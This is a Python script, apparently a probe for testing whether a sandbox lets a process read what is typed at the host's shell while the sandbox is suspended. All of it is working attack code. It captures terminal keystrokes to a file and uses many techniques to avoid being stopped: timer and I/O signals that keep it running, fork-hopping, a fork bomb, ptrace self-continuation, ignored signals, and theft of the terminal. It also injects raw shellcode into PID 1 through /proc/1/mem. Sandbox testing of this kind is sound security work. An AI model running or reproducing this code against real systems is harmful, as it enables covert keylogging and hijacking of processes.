"""Try to read what is typed at the host's shell while the sandbox around this is suspended (B06).

Usage: spy.py KIND FILE [MANNER]. What was read is added to FILE. The first process can be stopped like any other
program; the spy behind it does what it can not to be. With the manner `deaf` the first process ignores every signal as
well; as a `thief` it also takes the terminal back from whoever gets it.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import os
import platform
import signal
import sys
import threading
import time

LIBC = ctypes.CDLL(None, use_errno=True)
F_SETSIG = 10
TIMER_CREATE, TIMER_SETTIME, EXIT = {"x86_64": (222, 223, 60), "aarch64": (107, 110, 93)}[platform.machine()]
CLOCK_MONOTONIC = 1
# prctl(PR_SET_PDEATHSIG, 0); setsid(); file = open(path, O_WRONLY | O_CREAT | O_APPEND, 0644);
# for (;;) if ((n = read(0, stack, 64)) > 0) write(file, stack, n); else pause(); and then the path
TAKE_OVER = bytes.fromhex(
    "6a015f31f6b89d0000000f05b8700000000f05488d3d43000000be41040000baa4010000b8020000000f0589c34883ec"
    "4031ff4889e6ba4000000031c00f054885c07e1089c289df4889e6b8010000000f05ebddb8220000000f05ebd4"
)


def read_forever(target: str) -> None:
    file = os.open(target, os.O_WRONLY | os.O_APPEND | os.O_CREAT)
    while True:
        try:
            os.write(file, os.read(0, 64))
        except OSError:
            time.sleep(0.001)


def plain(target: str) -> None:
    read_forever(target)


def timer(target: str) -> None:
    """Be continued by a timer."""
    signal.signal(signal.SIGCONT, lambda *_: None)
    signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGCONT])
    event = (ctypes.c_int * 16)(0, 0, signal.SIGCONT, 0)
    number = ctypes.c_int()
    every = (ctypes.c_long * 4)(0, 2_000_000, 0, 2_000_000)
    assert LIBC.syscall(TIMER_CREATE, CLOCK_MONOTONIC, event, ctypes.byref(number)) == 0
    assert LIBC.syscall(TIMER_SETTIME, number, 0, every, None) == 0
    read_forever(target)


def key(target: str) -> None:
    """Be continued by the key that is pressed."""
    signal.pthread_sigmask(signal.SIG_UNBLOCK, [signal.SIGCONT])
    fcntl.fcntl(0, F_SETSIG, signal.SIGCONT)
    fcntl.fcntl(0, fcntl.F_SETOWN, os.getpid())
    fcntl.fcntl(0, fcntl.F_SETFL, fcntl.fcntl(0, fcntl.F_GETFL) | os.O_ASYNC)
    read_forever(target)


def leaderless(target: str) -> None:
    """Look dead: the first thread has ended."""
    threading.Thread(target=read_forever, args=(target,)).start()
    LIBC.syscall(EXIT, 0)


def rabbit(target: str) -> None:
    """Never be the process that somebody has just looked at."""
    file = os.open(target, os.O_WRONLY | os.O_APPEND | os.O_CREAT)
    os.set_blocking(0, False)
    while True:
        if os.fork():
            os._exit(0)
        with contextlib.suppress(OSError):
            os.write(file, os.read(0, 64))


def family(target: str) -> None:
    """Continue one another."""
    file = os.open(target, os.O_WRONLY | os.O_APPEND | os.O_CREAT)
    for _ in range(4):
        if os.fork() == 0:
            break
    os.set_blocking(0, False)
    while True:
        with contextlib.suppress(OSError):
            os.killpg(0, signal.SIGCONT)
            os.write(file, os.read(0, 64))


def debugged(target: str) -> None:
    """Be held by somebody else already, who lets it go on whenever it stops."""
    spy = os.fork()
    if spy == 0:
        read_forever(target)
    assert LIBC.ptrace(0x4206, spy, 0, 0) == 0  # PTRACE_SEIZE
    while True:
        os.waitpid(spy, 0x40000000)
        LIBC.ptrace(7, spy, 0, 0)  # PTRACE_CONT


def crowd(target: str) -> None:
    """Multiply without end."""
    while True:
        with contextlib.suppress(OSError):
            if os.fork() == 0:
                read_forever(target)
        time.sleep(0.001)


def init(target: str) -> None:
    """Take over the first process of the sandbox."""
    with open("/proc/1/syscall", encoding="ascii") as file:
        place = int(file.read().split()[-1], 16)
    memory = os.open("/proc/1/mem", os.O_RDWR)
    os.pwrite(memory, TAKE_OVER + target.encode() + b"\0", place)
    os._exit(0)  # its parent, when that has ended too, is the first process, which wakes up to it


KINDS = {kind.__name__: kind for kind in (plain, timer, key, leaderless, rabbit, family, debugged, crowd, init)}


def deaf() -> None:
    for number in (signal.SIGINT, signal.SIGQUIT, signal.SIGHUP, signal.SIGTSTP, signal.SIGTTIN, signal.SIGTTOU):
        signal.signal(number, signal.SIG_IGN)


def thief() -> None:
    deaf()
    accomplice = os.fork()
    if accomplice == 0:
        os.setpgid(0, 0)
        while True:
            time.sleep(1)
    os.setpgid(accomplice, accomplice)
    before = os.tcgetpgrp(0)
    while True:
        if os.tcgetpgrp(0) != before:
            with contextlib.suppress(OSError):
                os.tcsetpgrp(0, accomplice)


MANNERS = {"deaf": deaf, "thief": thief}


def main(kind: str, target: str, manner: str = "") -> None:
    if os.fork() == 0:
        if os.fork():
            os._exit(0)
        os.setsid()
        everything = set(signal.valid_signals()) - {signal.SIGCHLD}
        for number in everything - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, everything)
        KINDS[kind](target)
    while not os.path.exists(target):
        time.sleep(0.01)
    sys.stdout.write("the spy is ready\n")
    sys.stdout.flush()
    if manner:
        MANNERS[manner]()
    while True:
        time.sleep(0.02)


if __name__ == "__main__":
    main(*sys.argv[1:])
